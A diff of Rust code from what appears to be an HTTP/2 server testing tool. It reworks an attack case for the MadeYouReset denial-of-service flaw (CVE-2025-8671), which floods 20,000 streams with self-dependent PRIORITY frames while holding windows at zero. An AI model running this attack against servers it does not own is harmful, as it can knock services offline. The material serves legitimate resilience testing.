@@ -251,7 +251,17 @@ pub(crate) const CASES: &[Case] = &[
         "rfc9113/10.5/madeyoureset-priority-self",
         "MadeYouReset (CVE-2025-8671): a held GET, then a PRIORITY making the stream depend on itself (a stream error); N = 20 000",
         LIMITS,
-        |ctx| made_you_reset(ctx, "PRIORITY depending on itself", outs(vec![frames::priority(1, 1, 16).build()])),
+        |ctx| {
+            // The dependency is in the payload, so each unit is built for its own stream.
+            let get = Template::new(&outs(vec![ctx.get(1).build()]));
+            let mut a = Attack::new("HEADERS (GET, END_STREAM) + PRIORITY depending on itself on a new stream", "streams", 20_000, 2, move |i, out| {
+                let s = stream_of(1, i);
+                get.emit(s, out);
+                frames::priority(s, s, 16).build().encode(out);
+            });
+            made_you_reset_bounds(ctx, &mut a);
+            attack(a)
+        },
     ),
     attack_case!(
         "rfc9113/10.5/madeyoureset-data-after-end",
@@ -368,9 +378,17 @@ fn made_you_reset(ctx: &Ctx, what: &str, provoke: Vec<Outgoing>) -> Result<Scrip
     let mut frames_ = vec![Outgoing::from(ctx.get(1).build())];
     frames_.extend(provoke);
     let mut a = per_stream(&format!("HEADERS (GET, END_STREAM) + {what} on a new stream"), "streams", 20_000, 1, &frames_);
+    made_you_reset_bounds(ctx, &mut a);
+    attack(a)
+}
+
+/// Responses held by zero windows, so the stream is open when the frame arrives; as many
+/// streams as the server counts as open, less one: the attack goes on as fast as the server
+/// resets them, never past its limit.
+fn made_you_reset_bounds(ctx: &Ctx, a: &mut Attack) {
+    a.in_flight = Some(u64::from(ctx.server.max_concurrent_streams().unwrap_or(100).clamp(2, 1000) - 1));
     a.settings = hold_windows();
     a.answers = Answers::Resets;
-    attack(a)
 }
 
 /// Name of the classic bomb's table entry.
